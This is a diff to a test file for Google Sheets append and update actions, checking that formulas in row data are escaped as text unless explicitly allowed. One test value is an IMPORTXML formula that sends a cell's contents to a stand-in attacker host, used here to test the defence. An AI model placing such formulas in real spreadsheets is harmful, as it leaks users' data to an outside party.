@@ -72,7 +72,12 @@ describe('googlesheets actions against the Sheets API v4 fake', () => {
       sheet: 'Leads',
       rows: [
         { email: 'linus@example.com', Name: 'Linus', Plan: 'Pro' },
-        ['Margaret Hamilton', 'margaret@example.com', 'Team', '=1+1'],
+        [
+          'Margaret Hamilton',
+          'margaret@example.com',
+          'Team',
+          '=IMPORTXML("https://evil.example/?"&A1,"//a")',
+        ],
       ],
     });
     expect(output).toEqual({
@@ -96,10 +101,35 @@ describe('googlesheets actions against the Sheets API v4 fake', () => {
       majorDimension: 'ROWS',
       values: [
         ['Linus', 'linus@example.com', 'Pro'],
-        ['Margaret Hamilton', 'margaret@example.com', 'Team', '=1+1'],
+        [
+          'Margaret Hamilton',
+          'margaret@example.com',
+          'Team',
+          '\'=IMPORTXML("https://evil.example/?"&A1,"//a")',
+        ],
       ],
     });
+    // The formula from the row's data is stored as text (Sheets' leading apostrophe), not evaluated.
+    expect(fake.rows(leads, 'Leads').at(-1)?.[3]).toBe('=IMPORTXML("https://evil.example/?"&A1,"//a")');
     expect(fake.rows(leads, 'Leads').at(-2)).toEqual(['Linus', 'linus@example.com', 'Pro']);
+  });
+
+  it('allowFormulas: true sends a formula as written; updateRow guards formulas too', async () => {
+    await run('appendRows', {
+      spreadsheetId: leads,
+      sheet: 'Leads',
+      rows: [['Total', '=COUNTA(A2:A3)']],
+      allowFormulas: true,
+    });
+    expect(sent('POST', ':append')?.body).toMatchObject({ values: [['Total', '=COUNTA(A2:A3)']] });
+    await run('updateRow', {
+      spreadsheetId: leads,
+      sheet: 'Leads',
+      rowNumber: 2,
+      values: { Status: '+1 call back' },
+    });
+    expect(sent('PUT', '/values/')?.body).toMatchObject({ values: [[null, null, null, "'+1 call back"]] });
+    expect(fake.rows(leads, 'Leads')[1]?.[3]).toBe('+1 call back');
   });
 
   it('appendRows of arrays only skips the header read; RAW keeps "42" as text', async () => {
